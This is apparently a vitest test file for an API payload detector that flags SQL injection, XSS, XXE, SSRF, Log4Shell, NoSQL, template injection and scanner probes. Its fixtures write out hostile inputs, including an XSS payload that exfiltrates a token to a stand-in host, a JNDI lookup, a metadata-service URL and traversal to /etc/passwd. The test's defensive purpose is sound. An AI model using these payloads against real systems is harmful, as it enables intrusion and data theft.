import { describe, expect, it } from 'vitest';
import type { ApiRequest } from '../../contracts/api-event.js';
import type { PayloadDetector } from './detector.js';
import { BENIGN_REQUESTS } from './fixtures/benign-requests.js';
import { CHAR, charClasses, createCleanValueCache, DEFAULT_MIN_CONFIDENCE, detectPayloads, MAX_EVIDENCE, PAYLOAD_DETECTORS, passesPrefilter, redactEvidence } from './index.js';

function req(over: Partial<ApiRequest>): ApiRequest {
  return { method: 'GET', scheme: 'https', host: 'api.example.com', path: '/v1/items', query: {}, headers: {}, cookies: {}, ...over };
}
const JWT = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';

describe('detectPayloads', () => {
  it('reports an attack with its record, location and evidence', () => {
    const [d, ...rest] = detectPayloads(req({ query: { id: ["1' OR '1'='1"] } }));
    expect(rest).toEqual([]);
    expect(d).toEqual({
      detector: 'sqli-tokens',
      category: 'sqli',
      severity: 'high',
      confidence: 0.95,
      owasp: 'API8:2023',
      mitre: 'T1190',
      location: { where: 'query', name: 'id' },
      evidence: "1' OR '1'='1",
    });
  });

  it('finds nothing in an ordinary request', () => {
    const r = req({
      path: '/v1/customers/42/orders',
      query: { q: ["O'Brien's Pub"], sort: ['-created'], page: ['2'] },
      headers: { 'user-agent': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15', accept: 'application/json', referer: 'https://shop.example.com/cart?ref=mail&utm_source=newsletter' },
      cookies: { session: '3b241101-e2bb-4255-8caf-4136c566a962' },
    });
    expect(detectPayloads(r)).toEqual([]);
  });

  it.each(BENIGN_REQUESTS)('finds nothing in benign traffic: %s', (_name, r) => {
    expect(detectPayloads(r)).toEqual([]);
  });

  it('keeps one detection per detector and location, the most confident', () => {
    const ds = detectPayloads(req({ query: { id: ['1 OR x=1', "1' OR '1'='1", '5'] } }));
    expect(ds.filter((d) => d.detector === 'sqli-tokens')).toHaveLength(1);
    expect(ds[0]!.confidence).toBe(0.95);
  });

  it('reports each location separately', () => {
    const ds = detectPayloads(req({ query: { a: ["' OR 1=1--"], b: ["' OR 1=1--"] } }));
    expect(ds.map((d) => d.location.name)).toEqual(['a', 'b']);
  });

  it(`drops detections below ${DEFAULT_MIN_CONFIDENCE} unless asked`, () => {
    const r = req({ headers: { 'user-agent': 'python-requests/2.31.0' } });
    expect(detectPayloads(r)).toEqual([]);
    expect(detectPayloads(r, { minConfidence: 0 }).map((d) => [d.detector, d.confidence])).toEqual([['scanner-user-agent', 0.25]]);
  });

  it('redacts personal data and secrets in the evidence, keeps the attack', () => {
    const value = `<img src=x onerror="fetch('//x.example/?t=${JWT}&m=john.doe@example.com')">`;
    const [d] = detectPayloads(req({ query: { bio: [value] } }));
    expect(d!.detector).toBe('xss-markup');
    expect(d!.evidence).toContain('onerror=');
    expect(d!.evidence).toContain('[REDACTED:jwt]');
    expect(d!.evidence).toContain('[REDACTED:email]');
    expect(d!.evidence).not.toContain('john.doe');
    expect(d!.evidence).not.toContain(JWT.slice(0, 40));
  });

  it('escapes line breaks in evidence so it cannot forge log lines itself', () => {
    const [d] = detectPayloads(req({ query: { val: ['9306\nSUSPECTED: user Darin'] } }));
    expect(d!.detector).toBe('logforge-injected-line');
    expect(d!.evidence).toBe('9306\\nSUSPECTED: user Darin');
  });

  it(`bounds evidence to ${MAX_EVIDENCE} characters`, () => {
    expect(redactEvidence('<script>'.padEnd(5000, 'a')).length).toBe(MAX_EVIDENCE);
    const [d] = detectPayloads(req({ body: { text: `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///${'a'.repeat(4000)}">]>`, contentType: 'application/xml', encoding: 'utf8', size: 4100, truncated: false } }));
    expect(d!.evidence.length).toBeLessThanOrEqual(MAX_EVIDENCE);
  });

  it('skips a detector that throws and runs the others', () => {
    const broken: PayloadDetector = { ...PAYLOAD_DETECTORS[0]!, id: 'test-broken', detect: () => { throw new Error('bug'); } };
    const ds = detectPayloads(req({ query: { id: ["1' OR '1'='1"] } }), { detectors: [broken, ...PAYLOAD_DETECTORS] });
    expect(ds.map((d) => d.detector)).toEqual(['sqli-tokens']);
  });

  it('finds attacks in every kind of location', () => {
    const json = JSON.stringify({ user: { password: { $ne: null } }, note: '{{7*7}}' });
    const r = req({
      method: 'POST',
      path: '/files/..%2F..%2Fetc%2Fpasswd',
      query: { url: ['http://169.254.169.254/latest/meta-data/'] },
      headers: { 'user-agent': '${jndi:ldap://x.oastify.com/a}', cookie: 'prefs=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA==' },
      body: { text: json, contentType: 'application/json', encoding: 'utf8', size: json.length, truncated: false },
    });
    const found = detectPayloads(r).map((d) => `${d.detector}@${d.location.where}:${d.location.name}`);
    expect(found).toEqual(
      expect.arrayContaining([
        'traversal-dot-segments@path:1',
        'ssrf-cloud-metadata@query:url',
        'cookie-serialized-object@cookie:prefs',
        'log4shell-jndi-lookup@header:user-agent',
        'scanner-oast-domain@header:user-agent',
        'nosqli-operators@body:/user/password/$ne',
        'ssti-expression@body:/note',
      ]),
    );
  });
});

describe('the clean-value cache', () => {
  const requests: ApiRequest[] = [
    ...BENIGN_REQUESTS.map(([, r]) => r),
    req({ query: { q: ['tents'] }, headers: { 'user-agent': 'shop-app/2.1' } }),
    req({ query: { q: ["tents' UNION SELECT password FROM users--"] }, headers: { 'user-agent': 'shop-app/2.1' } }),
    req({ query: { q: ['tents'] }, headers: { 'user-agent': 'sqlmap/1.8' } }),
    req({ query: { q: ['<script>alert(1)</script>'] }, headers: { 'user-agent': 'shop-app/2.1' } }),
    req({ query: { q: ['tents'] }, headers: { 'user-agent': 'shop-app/2.1' } }),
  ];

  it('gives the same detections as no cache, over the same requests seen twice', () => {
    const cleanCache = createCleanValueCache();
    for (const round of [1, 2]) {
      for (const r of requests) expect(detectPayloads(r, { cleanCache }), `round ${round}`).toEqual(detectPayloads(r));
    }
    expect(cleanCache.size).toBeGreaterThan(0);
  });

  it('keeps only values no detector matched, and empties itself at its bound', () => {
    const cleanCache = createCleanValueCache();
    detectPayloads(req({}), { cleanCache });
    const pathOnly = cleanCache.size;
    detectPayloads(req({ query: { q: ["' OR '1'='1"] } }), { cleanCache });
    expect(cleanCache.size).toBe(pathOnly);
    expect(detectPayloads(req({ query: { q: ["' OR '1'='1"] } }), { cleanCache })).toHaveLength(1);
    for (let i = 0; i < 5; i++) detectPayloads(req({ query: { q: [`tent ${i}`] } }), { cleanCache, cleanCacheSize: 3 });
    expect(cleanCache.size).toBeLessThanOrEqual(3);
  });

  it('keys values by their raw text, with form fields (where + is a space) apart from other body fields', () => {
    const cleanCache = createCleanValueCache();
    const raw = 'x+union+select+1';
    const multipart = req({
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=B' },
      body: { text: `--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n${raw}\r\n--B--\r\n`, contentType: 'multipart/form-data; boundary=B', encoding: 'utf8', size: 60, truncated: false },
    });
    const form = req({
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: { text: `q=${raw}`, contentType: 'application/x-www-form-urlencoded', encoding: 'utf8', size: 18, truncated: false },
    });
    // Literal plus signs: clean, and remembered as such.
    expect(detectPayloads(multipart, { cleanCache })).toEqual([]);
    expect(cleanCache.size).toBe(1);
    // The same raw text as a form field decodes to `x union select 1`.
    expect(detectPayloads(form, { cleanCache }).map((d) => d.detector)).toEqual(['sqli-tokens']);
    // A percent-encoded attack is remembered by nothing: the next one is decoded and caught again.
    const encoded = req({ query: { q: ['%27%20OR%20%271%27%3D%271'] } });
    for (let i = 0; i < 2; i++) expect(detectPayloads(encoded, { cleanCache }).map((d) => d.detector)).toEqual(['sqli-tokens']);
  });

  it('counts a value repeated in one request once, and keeps nothing for a value a detector matched', () => {
    const cleanCache = createCleanValueCache();
    detectPayloads(req({ query: { q: ['two words', 'two words'] } }), { cleanCache });
    expect(cleanCache.size).toBe(1);
    const attacked = createCleanValueCache();
    expect(detectPayloads(req({ query: { q: ["' OR '1'='1"] } }), { cleanCache: attacked })).not.toEqual([]);
    expect(attacked.size).toBe(0);
    expect([...attacked.values.values()].every((byName) => byName.size === 0)).toBe(true);
  });

  it('keeps no value under a name longer than 128 characters', () => {
    const cleanCache = createCleanValueCache();
    detectPayloads(req({ query: { ['n'.repeat(129)]: ['two words'] } }), { cleanCache });
    expect(cleanCache.size).toBe(0);
  });

  it('picks the same values under the maxValues bound with a warm cache as without one', () => {
    const query: Record<string, string[]> = {};
    for (let i = 0; i < 300; i++) query[`p${i}`] = [i < 280 ? `two words ${i}` : "' OR '1'='1"];
    const r = req({ query, headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)' } });
    const cleanCache = createCleanValueCache();
    for (let round = 0; round < 2; round++) expect(detectPayloads(r, { cleanCache })).toEqual(detectPayloads(r));
    // The attack values come after the bound (256 values: two path segments, then the query), with or without the cache.
    expect(detectPayloads(r, { cleanCache })).toEqual([]);
  });

  it('skips a clean path whole, still counting its values toward the bound, and never keeps a path with an attack', () => {
    const cleanCache = createCleanValueCache();
    // A clean path takes its values' share of the bound, known or not: the query attack after it is read, or not, alike.
    const query: Record<string, string[]> = {};
    for (let i = 0; i < 260; i++) query[`p${i}`] = [i === 252 || i === 253 ? "' OR '1'='1" : `two words ${i}`];
    const short = req({ path: '/v1/products/two words', query });
    for (let round = 0; round < 2; round++) expect(detectPayloads(short, { cleanCache })).toEqual(detectPayloads(short));
    expect(cleanCache.paths.get(short.path)).toBe(3);
    expect(detectPayloads(short, { cleanCache }).map((d) => d.location.name)).toEqual(['p252']);
    // 300 clean segments reach the bound in the path; such a path is too long to keep whole.
    const long = req({ path: '/' + Array.from({ length: 300 }, (_, i) => `seg ${i}`).join('/'), query: { q: ["' OR '1'='1"] } });
    for (let round = 0; round < 2; round++) expect(detectPayloads(long, { cleanCache })).toEqual(detectPayloads(long));
    expect(detectPayloads(long, { cleanCache })).toEqual([]);
    expect(cleanCache.paths.has(long.path)).toBe(false);
    // A clean path longer than the longest value kept (256 characters) is not kept either: raw paths carry tokens.
    const wide = req({ path: '/' + Array.from({ length: 24 }, (_, i) => `two words ${i}`).join('/') });
    expect(wide.path.length).toBeGreaterThan(256);
    expect(detectPayloads(wide, { cleanCache })).toEqual([]);
    expect(cleanCache.paths.has(wide.path)).toBe(false);
    // A path with a match on any of its values, reported or not, is not clean as a whole.
    for (const path of ['/files/../../etc/passwd', '/v1/.env', "/p/1' OR '1'='1"]) {
      const r = req({ path });
      for (let round = 0; round < 2; round++) expect(detectPayloads(r, { cleanCache })).toEqual(detectPayloads(r));
      expect(detectPayloads(r, { cleanCache })).not.toEqual([]);
      expect(cleanCache.paths.has(path)).toBe(false);
    }
  });

  it('holds no value that no detector could read (numeric ids in the path, query and headers)', () => {
    const cleanCache = createCleanValueCache();
    const r = req({ path: '/1234/5678', query: { page: ['2'], id: ['42'] }, headers: { 'x-request-id': '123456' } });
    expect(detectPayloads(r, { cleanCache })).toEqual([]);
    expect(cleanCache.size).toBe(0);
  });

  it('does not remember a value only cheap detectors read, and still reports what they find', () => {
    const cleanCache = createCleanValueCache();
    // Path segments of letters reach only the probe-path signature (cheap): run each time, never stored.
    expect(detectPayloads(req({ path: '/v1/products/featured' }), { cleanCache })).toEqual([]);
    expect(cleanCache.size).toBe(0);
    const probe = req({ path: '/v1/.env' });
    for (let i = 0; i < 2; i++) expect(detectPayloads(probe, { cleanCache }).map((d) => d.detector)).toEqual(['scanner-probe-path']);
    // A value a costlier signature can read is remembered as before.
    detectPayloads(req({ query: { q: ['two words'] } }), { cleanCache });
    expect(cleanCache.size).toBe(1);
  });

  it('runs exactly the detectors whose prefilters pass, for every class set a value can have', () => {
    // A detector per prefilter shape, each reporting itself: the memoised eligibility must match the prefilters.
    const probe = (id: string, p: Pick<PayloadDetector, 'gate' | 'gateAlso' | 'locations'>): PayloadDetector => ({
      ...PAYLOAD_DETECTORS[0]!,
      id,
      ...p,
      detect: () => ({ confidence: 0.9, fragment: id }),
    });
    const detectors = [
      probe('quote', { gate: CHAR.SQUOTE }),
      probe('letter-and-space', { gate: CHAR.LETTER, gateAlso: CHAR.SPACE }),
      probe('cookie-only', { locations: ['cookie'] }),
      probe('always', {}),
    ];
    const values = ["it's", 'two words', 'word', '42', 'a b', "'"];
    for (const v of values) {
      for (const where of ['query', 'cookie'] as const) {
        const r = where === 'query' ? req({ query: { v: [v] } }) : req({ path: '/', cookies: { v } });
        const ids = detectPayloads(r, { detectors }).map((d) => d.detector).sort();
        const expected = detectors.filter((d) => passesPrefilter(d, charClasses(v), where)).map((d) => d.id).sort();
        expect(ids, `${where} ${JSON.stringify(v)}`).toEqual(expected);
      }
    }
  });
});
